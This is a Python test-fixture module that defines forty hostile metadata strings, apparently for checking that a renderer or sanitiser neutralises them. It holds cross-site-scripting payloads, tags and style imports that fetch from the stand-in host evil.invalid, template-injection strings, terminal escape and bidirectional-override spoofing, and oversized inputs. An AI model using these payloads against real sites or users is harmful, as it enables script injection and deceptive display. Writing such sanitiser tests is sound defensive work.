"""Forty metadata texts that would run, fetch or deceive if they were interpreted.

A script of theirs would set `PWNED`; a request of theirs would go to `evil.invalid`.
"""

from __future__ import annotations

_RUN = "window.PWNED=1"
_ASK = "http://evil.invalid/hostile"

TEXTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_ASK}.js></SCRIPT>",
    f"</td></tr></table><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_ASK}.png>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<iframe srcdoc='<script>parent.{_RUN.removeprefix('window.')}</script>'>",
    f"<iframe src={_ASK}>",
    f"<object data={_ASK}>",
    f"<embed src={_ASK}>",
    f"<link rel=stylesheet href={_ASK}.css>",
    f"<style>@import '{_ASK}.css'; * {{ background: url({_ASK}) }}</style>",
    f"<base href={_ASK}/>",
    f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<form action={_ASK}><input autofocus onfocus={_RUN}></form>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<a href=javascript:{_RUN}>upgrade</a>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>opener.{_RUN.removeprefix('window.')}</script>",
    f"vbscript:{_RUN}",
    f"![picture]({_ASK}.png) [link](javascript:{_RUN})",
    f"`${{{_RUN}}}` {{{{constructor.constructor('{_RUN}')()}}}}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e \\x3cscript>{_RUN}",
    f"<!--<img src='--><img src=x onerror={_RUN}//'>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"\x1b]8;;{_ASK}\x1b\\red\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m \x07\x00 end",
    "\u202egnp.exe\u202c \u2066upgrade\u2069 \u200f\u200e\ufeffend",
    "Z\u0351\u0343\u0323a\u0310\u0352l\u034c\u0359g\u0321o\u0322" * 8,
    "W" * 3000,
    "<b>" * 400 + "line\u2028separator\u2029paragraph\x85next",
)
